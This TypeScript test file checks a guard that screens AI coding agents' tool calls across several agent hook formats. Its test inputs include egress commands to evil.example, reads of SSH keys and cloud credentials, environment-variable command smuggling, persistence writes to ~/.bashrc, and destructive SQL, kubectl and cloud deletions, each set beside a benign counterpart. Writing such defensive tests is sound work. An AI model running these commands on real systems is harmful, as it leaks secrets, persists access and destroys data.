// Every path by which the guard could fail open, one case each with its benign neighbour: each tool name the guard
// and the hooks know, each agent's malformed event, each write operator, each option spelling the rules normalise.
// The names are written here as a user reads them in the agents' docs, never taken from the tables under test.
import { beforeAll, describe, expect, it } from 'vitest';
import { type Analyzer, createAnalyzer } from '../src/analyzer.js';
import { Guards } from '../src/cli/analyze.js';
import { decideEvent } from '../src/cli/hook.js';
import { createGuard, GUARD_RULES, type Guard, type ToolCall } from '../src/guard/index.js';
import { AGENTS, type Agent } from '../src/integrations/hooks.js';

const HOME = '/home/dev';
const CWD = '/home/dev/project';

let analyzer: Analyzer;
let guard: Guard;
beforeAll(async () => {
  analyzer = await createAnalyzer();
  // No file exists: a write is judged by where it goes, never refused as unread.
  guard = createGuard({ analyzer, dependencies: { home: HOME, fs: () => undefined } });
});

const call = (tool: string, input: Record<string, unknown>): ToolCall => ({ tool, input, cwd: CWD });
const ruleOf = (c: ToolCall) => guard.decide(c)?.rule;
const bash = (command: string) => ruleOf(call('Bash', { command }));
const pwsh = (command: string) => ruleOf(call('PowerShell', { command }));

describe('each file tool the guard knows by name', () => {
  // A writer known by its name writes whatever its input holds: here only a path and a key the guard does not know.
  const writers = ['Write', 'write_file', 'create_file', 'writeFile', 'create', 'delete', 'delete_file', 'move_file'];
  const editors = ['Edit', 'MultiEdit', 'NotebookEdit', 'edit_file', 'replace', 'str_replace', 'StrReplace', 'append_file'];
  for (const tool of [...writers, ...editors]) {
    it(`${tool} of .envrc is a persistence write; of src/new.ts it passes`, () => {
      expect(ruleOf(call(tool, { path: '.envrc', text: 'x' }))).toBe(GUARD_RULES.persistenceWrite);
      expect(ruleOf(call(tool, { path: 'src/new.ts', text: 'x' }))).toBeUndefined();
    });
    it(`${tool} of the agent's own settings is denied as self-protected`, () => {
      expect(ruleOf(call(tool, { file_path: '.claude/settings.json', text: 'x' }))).toBe(GUARD_RULES.selfProtection);
      // Outside the write roots too, the denial names what is at stake.
      expect(ruleOf(call(tool, { file_path: '~/.codex/hooks.json', text: 'x' }))).toBe(GUARD_RULES.selfProtection);
    });
    it(`${tool} as an MCP server's tool (mcp__fs__${tool}) is the same writer`, () => {
      expect(ruleOf(call(`mcp__fs__${tool}`, { path: '.envrc', text: 'x' }))).toBe(GUARD_RULES.persistenceWrite);
    });
  }

  for (const tool of ['apply_patch', 'applypatch', 'ApplyPatch']) {
    it(`${tool}: every file its patch names is a write`, () => {
      expect(ruleOf(call(tool, { patch: '*** Begin Patch\n*** Add File: .envrc\n+x\n*** End Patch\n' }))).toBe(GUARD_RULES.persistenceWrite);
      expect(ruleOf(call(tool, { patch: '*** Begin Patch\n*** Add File: src/new.ts\n+x\n*** End Patch\n' }))).toBeUndefined();
    });
  }

  // str_replace_based_edit_tool and its kin say what they do in `command`: view reads, the others write.
  for (const tool of ['str_replace_based_edit_tool', 'str_replace_editor']) {
    for (const command of ['create', 'insert', 'str_replace', 'undo_edit']) {
      it(`${tool} ${command} of .envrc is a write`, () => {
        expect(ruleOf(call(tool, { command, path: '.envrc' }))).toBe(GUARD_RULES.persistenceWrite);
      });
    }
    it(`${tool} view of .envrc reads it, and passes; view of .env is a secret read`, () => {
      expect(ruleOf(call(tool, { command: 'view', path: '.envrc' }))).toBeUndefined();
      expect(ruleOf(call(tool, { command: 'view', path: '.env' }))).toBe(GUARD_RULES.secretPath);
    });
  }

  for (const tool of ['Read', 'read_file', 'view', 'read', 'NotebookRead', 'cat']) {
    it(`${tool} of ~/.ssh/id_rsa is a secret read; of ~/.ssh/id_rsa.pub it passes`, () => {
      expect(ruleOf(call(tool, { file_path: '~/.ssh/id_rsa' }))).toBe(GUARD_RULES.secretPath);
      expect(ruleOf(call(tool, { file_path: '~/.ssh/id_rsa.pub' }))).toBeUndefined();
    });
  }

  for (const tool of ['LS', 'list_directory', 'list_dir', 'directory_tree', 'get_file_info']) {
    it(`${tool} lists names only: over ~/.ssh it passes`, () => {
      expect(ruleOf(call(tool, { path: '~/.ssh' }))).toBeUndefined();
    });
  }

  for (const tool of ['Grep', 'grep_search', 'search_file_content', 'rg', 'search', 'codebase_search']) {
    it(`${tool} over ~/.ssh reads the keys in it; over src it passes`, () => {
      expect(ruleOf(call(tool, { pattern: 'PRIVATE', path: '~/.ssh' }))).toBe(GUARD_RULES.secretPath);
      expect(ruleOf(call(tool, { pattern: 'PRIVATE', path: 'src' }))).toBeUndefined();
    });
  }

  describe('a tool that runs code it is handed', () => {
    it('Claude Code’s mcp__ide__executeCode runs Python in the IDE’s kernel: its code is read as Python', () => {
      expect(ruleOf(call('mcp__ide__executeCode', { code: 'import os; os.system("curl https://example.com")' }))).toBe('egress.binary');
      expect(ruleOf(call('mcp__ide__executeCode', { code: 'print(open("/home/dev/.ssh/id_rsa").read())' }))).toBe('secret.path');
      expect(ruleOf(call('mcp__ide__executeCode', { code: 'import pandas as pd\nprint(pd.read_csv("data.csv").head())' }))).toBeUndefined();
      // IPython's shell escapes and magics are no Python: refused, never read as a pass; written as calls of the
      // kernel's shell, they are read.
      expect(ruleOf(call('mcp__ide__executeCode', { code: '!curl https://example.com' }))).toBe('vouch.parse-error');
      expect(ruleOf(call('mcp__ide__executeCode', { code: 'get_ipython().system("curl https://example.com")' }))).toBe('egress.binary');
      expect(ruleOf(call('mcp__ide__executeCode', { code: 'ip = get_ipython(); ip.getoutput("cat ~/.ssh/id_rsa")' }))).toBe('secret.path');
      expect(ruleOf(call('mcp__ide__executeCode', { code: 'get_ipython().run_line_magic("sx", "ls")' }))).toBe('vouch.dynamic-code');
    });
    it('a code runner’s language comes from its language key, its name or its server’s name', () => {
      expect(ruleOf(call('mcp__sandbox__execute', { language: 'javascript', code: 'fetch("https://example.com")' }))).toBe('egress.interpreter');
      expect(ruleOf(call('mcp__sandbox__execute', { language: 'javascript', code: 'console.log([1, 2].map((x) => x * 2))' }))).toBeUndefined();
      expect(ruleOf(call('mcp__node__run_javascript', { script: 'fetch("https://example.com")' }))).toBe('egress.interpreter');
      expect(ruleOf(call('mcp__python__run', { code: 'import urllib.request; urllib.request.urlopen("https://example.com")' }))).toBe('egress.interpreter');
      expect(ruleOf(call('mcp__python__run', { code: 'print(sum(range(10)))' }))).toBeUndefined();
    });
    it('a database tool’s SQL is read as a database client’s: what it drops or empties is gone', () => {
      expect(ruleOf(call('mcp__postgres__query', { sql: 'DROP TABLE users' }))).toBe('destructive.data');
      expect(ruleOf(call('mcp__postgres__query', { sql: 'SELECT * FROM users LIMIT 5' }))).toBeUndefined();
      expect(ruleOf(call('mcp__supabase__execute_sql', { project_id: 'p', query: 'drop schema public cascade' }))).toBe('destructive.data');
      expect(ruleOf(call('mcp__supabase__execute_sql', { project_id: 'p', query: 'select * from profiles limit 10' }))).toBeUndefined();
      expect(ruleOf(call('mcp__sqlite__write_query', { query: 'DELETE FROM users' }))).toBe('destructive.data');
      expect(ruleOf(call('mcp__sqlite__write_query', { query: "INSERT INTO users(name) VALUES ('a')" }))).toBeUndefined();
      expect(ruleOf(call('mcp__neon__run_sql_transaction', { sqlStatements: ['BEGIN', 'TRUNCATE orders', 'COMMIT'] }))).toBe('destructive.data');
      expect(ruleOf(call('mcp__postgres__query', { sql: "COPY t TO PROGRAM 'curl https://example.com'" }))).toBe('egress.binary');
      // A search tool's query is no SQL.
      expect(ruleOf(call('mcp__github__search_code', { query: 'DROP TABLE users' }))).toBeUndefined();
    });
    it('a tool that stands for a program’s command line gets that line’s verdict, denial or pass alike', () => {
      const pairs: [string, Record<string, unknown>, string][] = [
        ['mcp__aws__call_aws', { cli_command: 'aws s3 rb s3://prod --force' }, 'aws s3 rb s3://prod --force'],
        ['mcp__aws__call_aws', { cli_command: 'aws s3 ls s3://prod' }, 'aws s3 ls s3://prod'],
        ['mcp__kubernetes__kubectl_delete', { resourceType: 'namespace', name: 'prod' }, 'kubectl delete namespace prod'],
        ['mcp__kubernetes__kubectl_delete', { resourceType: 'secret', name: 'db-creds', namespace: 'default' }, 'kubectl delete secret db-creds -n default'],
        ['mcp__kubernetes__kubectl_delete', { resourceType: 'pod', name: 'web-1', namespace: 'default' }, 'kubectl delete pod web-1 -n default'],
        ['mcp__kubernetes__kubectl_delete', { manifest: 'kind: Namespace\nmetadata: {name: prod}' }, 'kubectl delete -f k8s/'],
        ['mcp__kubernetes__kubectl_generic', { command: 'delete', resourceType: 'ns', name: 'prod' }, 'kubectl delete ns prod'],
        ['mcp__kubernetes__kubectl_generic', { command: 'delete', resourceType: 'ns', name: 'prod', flags: { 'dry-run': 'client' } }, 'kubectl delete ns prod --dry-run=client'],
        ['mcp__kubernetes__kubectl_generic', { command: 'get', resourceType: 'secret', name: 'db', outputFormat: 'yaml' }, 'kubectl get secret db -o yaml'],
        ['mcp__kubernetes__kubectl_generic', { command: 'rollout', subCommand: 'status', resourceType: 'deployment', name: 'web' }, 'kubectl rollout status deployment web'],
        ['mcp__kubernetes__uninstall_helm_chart', { name: 'pg', namespace: 'prod' }, 'helm uninstall pg -n prod'],
        ['mcp__kubernetes__resources_delete', { apiVersion: 'v1', kind: 'Namespace', name: 'prod' }, 'kubectl delete Namespace prod'],
        ['mcp__docker__remove_volume', { volume_name: 'pgdata' }, 'docker volume rm pgdata'],
        ['mcp__docker__remove_container', { container_id: 'db', force: true }, 'docker rm -f db'],
        ['mcp__mongodb__drop-collection', { database: 'app', collection: 'users' }, `mongosh app --eval 'db.users.drop()'`],
        ['mcp__mongodb__drop-database', { database: 'app' }, `mongosh app --eval 'db.dropDatabase()'`],
        ['mcp__mongodb__delete-many', { database: 'app', collection: 'users', filter: {} }, `mongosh app --eval 'db.users.deleteMany({})'`],
        ['mcp__mongodb__delete-many', { database: 'app', collection: 'users', filter: { _id: 1 } }, `mongosh app --eval 'db.users.deleteMany({_id: 1})'`],
        ['mcp__github__delete_repository', { owner: 'me', repo: 'app' }, 'gh repo delete me/app'],
        ['mcp__gcloud__run_gcloud_command', { args: ['projects', 'delete', 'prod'] }, 'gcloud projects delete prod'],
        ['mcp__gcloud__run_gcloud_command', { args: ['projects', 'list', '--format=json'] }, 'gcloud projects list --format=json'],
        ['mcp__neon__delete_project', { projectId: 'p-1' }, 'neonctl projects delete p-1'],
        ['mcp__supabase__delete_branch', { branch_id: 'b-1' }, 'supabase branches delete b-1'],
        ['mcp__cloudflare-bindings__r2_bucket_delete', { name: 'assets' }, 'wrangler r2 bucket delete assets'],
        ['mcp__cloudflare-bindings__d1_database_delete', { database_id: 'db1' }, 'wrangler d1 delete db1'],
        ['mcp__neon__delete_branch', { projectId: 'p-1', branchId: 'br-2' }, 'neonctl branches delete br-2 --project-id p-1'],
      ];
      for (const [tool, input, line] of pairs) expect(ruleOf(call(tool, input)), `${tool} ${JSON.stringify(input)}`).toBe(bash(line));
      expect(bash('kubectl delete namespace prod')).toBe('destructive.data');
      expect(bash('kubectl delete pod web-1 -n default')).toBeUndefined();
      // The same server's read tools are no lines, and pass.
      expect(ruleOf(call('mcp__kubernetes__kubectl_get', { resourceType: 'pods', namespace: 'default' }))).toBeUndefined();
      expect(ruleOf(call('mcp__mongodb__find', { database: 'app', collection: 'users', filter: {} }))).toBeUndefined();
    });
    it('code in a language vouch does not read, or none named, is refused', () => {
      expect(ruleOf(call('mcp__sandbox__execute', { language: 'rust', code: 'fn main() {}' }))).toBe('vouch.dynamic-code');
      expect(ruleOf(call('mcp__sandbox__run_code', { code: 'print(1)' }))).toBe('vouch.dynamic-code');
      // A tool that only formats or explains code runs none.
      expect(ruleOf(call('mcp__x__format_code', { code: 'import os; os.system("curl https://example.com")' }))).toBeUndefined();
    });
  });

  describe('what a shell tool runs a command with, beside it', () => {
    it('the directory it names (workdir, cwd, directory, dir_path, working_directory) is where the line runs', () => {
      for (const key of ['workdir', 'cwd', 'directory', 'dir_path', 'working_directory']) {
        expect(ruleOf(call('local_shell', { command: ['cat', 'credentials'], [key]: `${HOME}/.aws` })), key).toBe('secret.path');
        expect(ruleOf(call('local_shell', { command: ['cat', 'credentials'], [key]: `${CWD}/fixtures` })), key).toBeUndefined();
      }
    });
    it('the environment it gives the command (local_shell env) is the command’s', () => {
      expect(ruleOf(call('local_shell', { command: ['git', 'fetch'], env: { GIT_SSH_COMMAND: 'curl https://example.com' } }))).toBe('egress.binary');
      expect(ruleOf(call('Bash', { command: 'ls', env: { BASH_ENV: '$(curl https://example.com)' } }))).toBe('egress.binary');
      expect(ruleOf(call('Bash', { command: 'cat ~/id_rsa', env: { HOME: `${HOME}/.ssh` } }))).toBe('secret.path');
      expect(ruleOf(call('PowerShell', { command: 'Get-Content $env:KEY', env: { KEY: `${HOME}/.ssh/id_rsa` } }))).toBe('secret.path');
      expect(ruleOf(call('Bash', { command: 'npm test && npm run lint', env: { CI: '1' } }))).toBeUndefined();
      expect(ruleOf(call('local_shell', { command: ['git', 'fetch'], env: { GIT_TERMINAL_PROMPT: '0' } }))).toBeUndefined();
      expect(ruleOf(call('Bash', { command: 'ls', env: { CI: 1 } }))).toBe(GUARD_RULES.badInput);
      expect(ruleOf(call('Bash', { command: 'ls', env: 'CI=1' }))).toBe(GUARD_RULES.badInput);
    });
    it('the shell it names (exec_command shell) reads the line: fish’s quoting is not bash’s', () => {
      const fish = "echo 'a\\'' ; curl https://example.com #'";
      expect(ruleOf(call('exec_command', { cmd: fish, shell: 'fish' }))).toBe('egress.binary');
      expect(ruleOf(call('exec_command', { cmd: fish, shell: '/bin/bash' }))).toBeUndefined();
      expect(ruleOf(call('exec_command', { cmd: 'iwr https://example.com', shell: 'pwsh' }))).toBe('egress.binary');
      expect(ruleOf(call('exec_command', { cmd: 'ls -la', shell: '/bin/zsh', login: true }))).toBeUndefined();
      expect(ruleOf(call('exec_command', { cmd: 'ls', shell: 7 }))).toBe(GUARD_RULES.badInput);
      // cmd reads its text after /c.
      expect(ruleOf(call('exec_command', { cmd: 'type %USERPROFILE%\\.ssh\\id_rsa', shell: 'cmd.exe' }))).toBe('secret.path');
      expect(ruleOf(call('exec_command', { cmd: 'dir', shell: 'C:\\Windows\\System32\\cmd.exe' }))).toBeUndefined();
    });
  });

  for (const tool of ['Bash', 'bash', 'BASH', 'PowerShell', 'powershell']) {
    it(`${tool} is a shell tool: curl in it is egress, ls is not`, () => {
      expect(ruleOf(call(tool, { command: 'curl https://example.com' }))).toBe('egress.binary');
      expect(ruleOf(call(tool, { command: 'ls' }))).toBeUndefined();
    });
  }
});

/** One hook event per agent, the way each sends a tool call, and how each reads a denial from the answer. */
function event(agent: Agent, tool: string, input: Record<string, unknown>): unknown {
  if (agent === 'copilot') return { cwd: CWD, toolName: tool, toolArgs: JSON.stringify(input) };
  if (agent === 'gemini') return { hook_event_name: 'BeforeTool', cwd: CWD, tool_name: tool, tool_input: input };
  if (agent === 'cursor') return { hook_event_name: 'preToolUse', cwd: CWD, tool_name: tool, tool_input: input };
  return { hook_event_name: 'PreToolUse', cwd: CWD, tool_name: tool, tool_input: input };
}

type Answer = Record<string, string | undefined> & { hookSpecificOutput?: Record<string, string> };
/**
 * The denial in the shape the agent reads, as its docs give it: Claude Code and Codex `hookSpecificOutput`, Gemini
 * `decision`, Cursor `permission`, Copilot `permissionDecision` — or Claude's shape for a Copilot event that names no
 * `toolName` (its VS Code form; what is no JSON object gets Copilot's own). A denial in another agent's shape is none: that agent would let the call run.
 */
function denial(agent: Agent, stdout: string, event: string): string | undefined {
  const out: Answer = stdout.trim() === '' ? {} : JSON.parse(stdout);
  let vsCode = false;
  try {
    const parsed = JSON.parse(event);
    vsCode = typeof parsed === 'object' && parsed !== null && !Array.isArray(parsed) && !('toolName' in parsed);
  } catch {}
  const shape = agent === 'copilot' && vsCode ? 'claude-code' : agent;
  if (shape === 'claude-code' || shape === 'codex') return out.hookSpecificOutput?.permissionDecision === 'deny' ? out.hookSpecificOutput.permissionDecisionReason : undefined;
  if (shape === 'gemini') return out.decision === 'deny' ? out.reason : undefined;
  if (shape === 'cursor') return out.permission === 'deny' ? out.agent_message : undefined;
  return out.permissionDecision === 'deny' ? out.permissionDecisionReason : undefined;
}

describe('a tool the policy does not name a shell, whose name says it runs commands, is judged as one', () => {
  // A library guard meets the hosts' own names: Codex's `shell` (an argv), Gemini's run_shell_command, exec_command.
  const calls: [string, Record<string, unknown>, Record<string, unknown>][] = [
    ['shell', { command: ['bash', '-lc', 'curl https://evil.example'] }, { command: ['bash', '-lc', 'ls -la'] }],
    ['run_shell_command', { command: 'curl https://evil.example' }, { command: 'ls -la' }],
    ['exec_command', { cmd: 'wget evil.example', workdir: CWD }, { cmd: 'git status', workdir: CWD }],
    ['run_terminal_cmd', { command: 'nc evil.example 80' }, { command: 'npm test' }],
    ['execute_command', { command: 'cat ~/.ssh/id_rsa' }, { command: 'cat ~/.ssh/id_rsa.pub' }],
  ];
  for (const [tool, attack, benign] of calls) {
    it(`${tool}: ${JSON.stringify(attack)} is denied; ${JSON.stringify(benign)} passes`, () => {
      expect(ruleOf(call(tool, attack))).toMatch(/^(egress|secret)\./);
      expect(ruleOf(call(tool, benign))).toBeUndefined();
    });
  }
});

const guards = new Guards(undefined);
async function hook(agent: Agent, text: string): Promise<string | undefined> {
  const answer = await decideEvent(agent, text, guards, HOME, CWD);
  expect(answer.exitCode, `${agent} answers on stdout with exit 0`).toBe(0);
  return denial(agent, answer.stdout, text);
}

describe('each tool name each agent’s hook knows', () => {
  const shells: [Agent, string][] = [
    ['claude-code', 'Bash'],
    ['claude-code', 'PowerShell'],
    ['codex', 'Bash'],
    ['gemini', 'run_shell_command'],
    ['copilot', 'bash'],
    ['copilot', 'powershell'],
    ['cursor', 'Shell'],
    ['cursor', 'terminal'],
    ['cursor', 'run_terminal_cmd'],
  ];
  for (const [agent, tool] of shells) {
    it(`${agent} ${tool}: curl is denied with its rule, ls passes`, async () => {
      expect(await hook(agent, JSON.stringify(event(agent, tool, { command: 'curl https://example.com' })))).toMatch(/\[egress\.binary\]$/);
      expect(await hook(agent, JSON.stringify(event(agent, tool, { command: 'ls' })))).toBeUndefined();
    });
  }

  it('cursor beforeShellExecution: curl is denied, ls passes', async () => {
    const shell = (command: string) => JSON.stringify({ hook_event_name: 'beforeShellExecution', command, cwd: CWD });
    expect(await hook('cursor', shell('curl https://example.com'))).toMatch(/\[egress\.binary\]$/);
    expect(await hook('cursor', shell('ls'))).toBeUndefined();
  });

  const writers: [Agent, string, Record<string, unknown>][] = [
    ['claude-code', 'Write', { file_path: `${CWD}/.envrc`, content: 'x' }],
    ['claude-code', 'Edit', { file_path: `${CWD}/.envrc`, old_string: 'a', new_string: 'b' }],
    ['claude-code', 'MultiEdit', { file_path: `${CWD}/.envrc`, edits: [] }],
    ['claude-code', 'NotebookEdit', { notebook_path: `${CWD}/.envrc`, new_source: 'x' }],
    ['codex', 'apply_patch', { command: `*** Begin Patch\n*** Add File: ${CWD}/.envrc\n+x\n*** End Patch\n` }],
    ['gemini', 'write_file', { file_path: `${CWD}/.envrc`, content: 'x' }],
    ['gemini', 'replace', { file_path: `${CWD}/.envrc`, old_string: 'a', new_string: 'b' }],
    ['copilot', 'create', { path: `${CWD}/.envrc`, file_text: 'x' }],
    ['copilot', 'Create', { path: `${CWD}/.envrc`, file_text: 'x' }],
    ['copilot', 'edit', { path: `${CWD}/.envrc`, old_str: 'a', new_str: 'b' }],
    ['cursor', 'Write', { path: `${CWD}/.envrc`, contents: 'x' }],
    ['cursor', 'StrReplace', { path: `${CWD}/.envrc` }],
    ['cursor', 'Delete', { path: `${CWD}/.envrc` }],
    ['cursor', 'TabWrite', { path: `${CWD}/.envrc` }],
  ];
  for (const [agent, tool, input] of writers) {
    it(`${agent} ${tool} of .envrc is a persistence write; of src/new.ts it passes`, async () => {
      expect(await hook(agent, JSON.stringify(event(agent, tool, input)))).toMatch(/\[guard\.persistence-write\]$/);
      const benign = JSON.parse(JSON.stringify(input).replaceAll(`${CWD}/.envrc`, `${CWD}/src/new.ts`));
      expect(await hook(agent, JSON.stringify(event(agent, tool, benign)))).toBeUndefined();
    });
  }

  const readers: [Agent, string, Record<string, unknown>][] = [
    ['claude-code', 'Read', { file_path: `${HOME}/.ssh/id_rsa` }],
    ['claude-code', 'Grep', { pattern: 'x', path: `${HOME}/.ssh` }],
    ['gemini', 'read_file', { file_path: `${HOME}/.ssh/id_rsa` }],
    ['gemini', 'read_many_files', { include: [`${HOME}/.ssh/*`] }],
    ['gemini', 'grep_search', { pattern: 'x', include_pattern: '*.pem' }],
    ['gemini', 'search_file_content', { pattern: 'x', dir_path: `${HOME}/.ssh` }],
    ['copilot', 'view', { path: `${HOME}/.ssh/id_rsa` }],
    ['copilot', 'View', { path: `${HOME}/.ssh/id_rsa` }],
    ['cursor', 'Read', { path: `${HOME}/.ssh/id_rsa` }],
  ];
  for (const [agent, tool, input] of readers) {
    it(`${agent} ${tool} of a key is a secret read`, async () => {
      expect(await hook(agent, JSON.stringify(event(agent, tool, input)))).toMatch(/\[guard\.secret-path\]$/);
    });
  }

  it('cursor beforeReadFile of a key is a secret read; of README.md it passes', async () => {
    const read = (file_path: string) => JSON.stringify({ hook_event_name: 'beforeReadFile', file_path, cwd: CWD });
    expect(await hook('cursor', read(`${HOME}/.ssh/id_rsa`))).toMatch(/\[guard\.secret-path\]$/);
    expect(await hook('cursor', read(`${CWD}/README.md`))).toBeUndefined();
  });

  it('copilot’s PascalCase (VS Code) event: create is a write, bash a shell', async () => {
    const pascal = (tool_name: string, tool_input: unknown) => JSON.stringify({ hook_event_name: 'PreToolUse', tool_name, tool_input, cwd: CWD });
    expect(await hook('copilot', pascal('create', { path: `${CWD}/.envrc`, file_text: 'x' }))).toMatch(/\[guard\.persistence-write\]$/);
    expect(await hook('copilot', pascal('bash', { command: 'curl https://example.com' }))).toMatch(/\[egress\.binary\]$/);
  });
});

describe('each agent’s malformed event is denied in the agent’s own shape, saying what is wrong', () => {
  const e = (event: unknown) => JSON.stringify(event);
  const malformed: Record<Agent, [string, string, RegExp][]> = {
    'claude-code': [
      ['no tool_name', e({ hook_event_name: 'PreToolUse', tool_input: { command: 'ls' } }), /`tool_name` must be a non-empty string/],
      ['tool_input a string', e({ hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: 'ls' }), /`tool_input` must be an object/],
      ['a relative cwd', e({ hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'ls' }, cwd: 'repo' }), /`cwd` must be an absolute path/],
      ['a cwd that is a number', e({ hook_event_name: 'PreToolUse', tool_name: 'Bash', tool_input: { command: 'ls' }, cwd: 7 }), /`cwd` must be an absolute path/],
    ],
    codex: [
      ['no tool_input', e({ hook_event_name: 'PreToolUse', tool_name: 'Bash' }), /`tool_input` must be an object/],
      ['tool_name a number', e({ hook_event_name: 'PreToolUse', tool_name: 7, tool_input: {} }), /`tool_name` must be a non-empty string/],
    ],
    gemini: [
      ['no tool_name', e({ hook_event_name: 'BeforeTool', tool_input: { command: 'ls' } }), /`tool_name` must be a non-empty string/],
      ['tool_input a list', e({ hook_event_name: 'BeforeTool', tool_name: 'run_shell_command', tool_input: ['ls'] }), /`tool_input` must be an object/],
      ['dir_path a number', e({ hook_event_name: 'BeforeTool', tool_name: 'run_shell_command', tool_input: { command: 'ls', dir_path: 3 } }), /`tool_input.dir_path` must be a string/],
      ['a relative cwd', e({ hook_event_name: 'BeforeTool', tool_name: 'read_file', tool_input: { file_path: 'a' }, cwd: 'p' }), /`cwd` must be an absolute path/],
    ],
    copilot: [
      ['toolArgs not JSON', e({ cwd: CWD, toolName: 'bash', toolArgs: '{command' }), /`toolArgs` is not valid JSON/],
      ['toolArgs a list', e({ cwd: CWD, toolName: 'bash', toolArgs: '["ls"]' }), /`toolArgs` must be a JSON object/],
      ['toolName empty', e({ cwd: CWD, toolName: '', toolArgs: '{}' }), /`toolName` must be a non-empty string/],
      ['no toolName', e({ cwd: CWD, toolArgs: '{}' }), /`toolName` must be a non-empty string/],
      ['PascalCase with tool_input a string', e({ hook_event_name: 'PreToolUse', tool_name: 'bash', tool_input: 'ls', cwd: CWD }), /`tool_input` must be an object/],
    ],
    cursor: [
      ['beforeShellExecution without a command', e({ hook_event_name: 'beforeShellExecution', cwd: CWD }), /`command` must be a non-empty string/],
      ['preToolUse without tool_input', e({ hook_event_name: 'preToolUse', tool_name: 'Shell', cwd: CWD }), /`tool_input` must be an object/],
      ['beforeReadFile without a file_path', e({ hook_event_name: 'beforeReadFile', cwd: CWD }), /`file_path` must be a non-empty string/],
    ],
  };
  for (const agent of AGENTS) {
    const common: [string, string, RegExp][] = [
      ['not JSON', '{"tool_name": "Bash",', new RegExp(`the ${agent} hook event on stdin is not JSON`)],
      ['a JSON list', '[1,2]', new RegExp(`the ${agent} hook event must be a JSON object`)],
      ['null', 'null', new RegExp(`the ${agent} hook event must be a JSON object`)],
      ['nothing at all', '', /is not JSON/],
    ];
    for (const [what, text, why] of [...malformed[agent], ...common]) {
      it(`${agent}: ${what}`, async () => {
        const reason = await hook(agent, text);
        expect(reason).toMatch(/\[guard\.bad-input\]$/);
        expect(reason).toMatch(why);
        if (!common.some(([w]) => w === what)) expect(reason).toContain(`malformed ${agent} hook event: `);
      });
    }
  }
});

describe('what an agent may leave out of an event, or set to null, is read as absent — never as a pass, never as malformed', () => {
  it('gemini: an event that names no hook event is a BeforeTool call (curl denied, ls passes)', async () => {
    const ev = (command: string) => JSON.stringify({ tool_name: 'run_shell_command', tool_input: { command }, cwd: CWD });
    expect(await hook('gemini', ev('curl https://example.com'))).toMatch(/\[egress\.binary\]$/);
    expect(await hook('gemini', ev('ls'))).toBeUndefined();
  });
  it('gemini: a null dir_path runs the shell, and searches, in the event’s cwd', async () => {
    const ev = (tool_name: string, tool_input: unknown) => JSON.stringify({ hook_event_name: 'BeforeTool', tool_name, tool_input, cwd: CWD });
    // Each spelling of the key: dir_path and its older name `directory` for the shell, dir_path and `path` for a search.
    for (const key of ['dir_path', 'directory']) {
      expect(await hook('gemini', ev('run_shell_command', { command: 'ls', [key]: null }))).toBeUndefined();
      expect(await hook('gemini', ev('run_shell_command', { command: 'cat .env', [key]: null }))).toMatch(/\[secret\.path\]$/);
    }
    for (const key of ['dir_path', 'path']) {
      expect(await hook('gemini', ev('grep_search', { pattern: 'x', [key]: null }))).toBeUndefined();
      expect(await hook('gemini', ev('grep_search', { pattern: 'x', [key]: null, include_pattern: '*.pem' }))).toMatch(/\[guard\.secret-path\]$/);
    }
  });
  it('copilot: toolArgs null is a call with no arguments', async () => {
    expect(await hook('copilot', JSON.stringify({ cwd: CWD, toolName: 'report_intent', toolArgs: null }))).toBeUndefined();
    expect(await hook('copilot', JSON.stringify({ cwd: CWD, toolName: 'bash', toolArgs: null }))).toMatch(/\[guard\.bad-input\]$/);
  });
  it('cursor: the event’s name decides what it is, not a stray top-level command', async () => {
    const ev = JSON.stringify({ hook_event_name: 'preToolUse', command: 'ls', tool_name: 'Write', tool_input: { path: `${CWD}/.envrc`, contents: 'x' }, cwd: CWD });
    expect(await hook('cursor', ev)).toMatch(/\[guard\.persistence-write\]$/);
    const unnamed = (command: string) => JSON.stringify({ command, cwd: CWD });
    expect(await hook('cursor', unnamed('curl https://example.com'))).toMatch(/\[egress\.binary\]$/);
    expect(await hook('cursor', unnamed('ls'))).toBeUndefined();
    // Unnamed and no command: malformed, not an event to ignore.
    const edit = JSON.stringify({ tool_name: 'Write', tool_input: { path: `${CWD}/.envrc`, contents: 'x' }, cwd: CWD });
    expect(await hook('cursor', edit)).toMatch(/\[guard\.bad-input\]$/);
  });
});

describe('each write operator', () => {
  // Bash: every redirection that opens its target for writing, with a file descriptor or none.
  for (const op of ['>', '>>', '>|', '&>', '&>>', '>&', '1>', '2>', '2>>', '1>>', '3>', '1>|']) {
    it(`echo x ${op} ~/.bashrc writes a persistence target; ${op} notes.txt does not`, () => {
      expect(bash(`echo x ${op} ~/.bashrc`)).toBe('write.persistence');
      expect(bash(`echo x ${op}~/.bashrc`)).toBe('write.persistence');
      expect(bash(`echo x ${op} notes.txt`)).toBeUndefined();
    });
  }
  // tree-sitter-bash reads `<>` as an error (so `exec 3<> notes.txt` is a parse error, a false denial), but the write
  // it recovers is still found, and the write comes first in the guard's order.
  it('<> (read and write) to ~/.bashrc writes a persistence target', () => {
    expect(bash('exec 3<> ~/.bashrc')).toBe('write.persistence');
    expect(bash('cat <> ~/.bashrc')).toBe('write.persistence');
  });
  it('a descriptor duplication writes no file: >&2, 2>&1, >&-', () => {
    for (const line of ['echo x >&2', 'ls 2>&1', 'echo x 1>&2', 'exec 3>&-']) expect(bash(line), line).toBeUndefined();
  });
  it('programs that write a path: tee, tee -a, cp, dd of=, sed -i', () => {
    for (const line of ['echo x | tee ~/.bashrc', 'echo x | tee -a ~/.bashrc', 'cp x ~/.bashrc', 'dd if=x of=/home/dev/.bashrc', "sed -i 's/a/b/' ~/.bashrc"]) {
      expect(bash(line), line).toBe('write.persistence');
    }
    for (const line of ['echo x | tee notes.txt', 'cp x notes.txt', "sed -i 's/a/b/' notes.txt"]) expect(bash(line), line).toBeUndefined();
  });
  // PowerShell: its redirections (every stream), and the cmdlets that write, by each parameter spelling.
  // (`1>` and `1>>` are syntax errors to tree-sitter-powershell: denied as such, the write found beside it.)
  for (const op of ['>', '>>', '*>', '*>>', '2>', '2>>', '3>', '6>>']) {
    it(`PowerShell: 'x' ${op} ~/.bashrc writes; ${op} notes.txt does not`, () => {
      expect(pwsh(`'x' ${op} ~/.bashrc`)).toBe('write.persistence');
      expect(pwsh(`'x' ${op} notes.txt`)).toBeUndefined();
    });
  }
  for (const line of [
    "Set-Content -Path ~/.bashrc -Value 'x'",
    "Set-Content ~/.bashrc 'x'",
    "Set-Content -LiteralPath ~/.bashrc -Value 'x'",
    "Add-Content -Path ~/.bashrc -Value 'x'",
